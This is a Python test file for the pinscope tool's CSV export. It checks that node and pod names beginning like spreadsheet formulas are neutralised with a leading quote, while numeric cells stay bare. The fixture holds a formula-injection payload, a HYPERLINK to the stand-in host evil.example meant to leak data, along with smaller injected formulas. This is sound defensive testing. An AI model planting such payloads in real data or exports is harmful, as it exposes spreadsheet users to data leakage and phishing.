"""`e`'s CSV opened in a spreadsheet (issue 23): node text that starts like a formula (`=`, `+`, `-`, `@`, tab,
carriage return: OWASP's list) is neutralised with a leading `'`; every text cell is quoted; the numbers
pinscope wrote stay numbers. Through the app's own export path, from a node whose names are hostile."""
import csv
import io

from pinscope.collectors.sim.node import CtrSpec, NodeSpec, PodSpec
from frozen import FrozenApp, frozen_samples_async

HOST = '=HYPERLINK("http://evil.example/?leak","click me")'


def formula_node() -> NodeSpec:
    return NodeSpec(hostname=HOST, sockets=1, cores=4, threads=1, cgroup=2, driver="systemd", reserved="0",
                    pods=[PodSpec("@SUM(1+1)", "+ns", containers=[CtrSpec("-2+3", cpus="1")]),
                          PodSpec("p", "\tns", containers=[CtrSpec("c", cpus="2")]),
                          PodSpec("q", "-1", containers=[CtrSpec("c", cpus="3")])])


async def test_hostile_names_reach_the_csv_as_text_not_formulas(tmp_path, monkeypatch):
    out = tmp_path / "out"
    monkeypatch.setenv("PINSCOPE_SCREENSHOTS", str(out))
    report = await frozen_samples_async(formula_node(), tmp_path / "tree")

    app = FrozenApp({"evil": report}, start="evil")
    async with app.run_test(size=(160, 50)) as pilot:
        await pilot.pause()
        await pilot.press("e")
        await pilot.pause()
    (path,) = out.glob("*.csv")
    raw = path.read_text()
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert len(rows) == 4
    for r in rows:
        for col, cell in r.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
    assert {r["node"] for r in rows} == {"'" + HOST}  # the name kept whole behind the quote
    owners = {r["cpu"]: r["owner"] for r in rows}
    assert owners["1"] == "'+ns/@SUM(1+1)/-2+3"
    assert owners["2"] == "'\tns/p/c"
    assert owners["3"] == "'-1/q/c"  # text from the node, though it looks like a number
    # every text cell double-quoted (the quote inside the hostname doubled); our numbers bare
    first = raw.splitlines()[1]
    assert first.startswith('"\'=HYPERLINK(""http://evil.example/?leak"",""click me"")",0,0,0,')


def test_cells_numbers_stay_numbers_text_is_neutralised():
    from pinscope.tui.export import csv_cell, to_csv

    assert csv_cell(-1) == -1 and csv_cell(0.25) == 0.25 and csv_cell(None) == "" and csv_cell(True) == "true"
    for bad in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert csv_cell(bad) == "'" + bad
    assert csv_cell("ns/pod/c") == "ns/pod/c" and csv_cell("a=b") == "a=b"
    text = to_csv([{"node": "-n", "cpu": 3, "socket": -1, "numa": 0, "l3": None, "role": "shared", "owner": "",
                    "load": 0.5, "finding": "", "highlighted": False, "roles_from": "state"}])
    assert text.splitlines()[1] == '"\'-n",3,-1,0,"","shared","",0.5,"","false","state"'
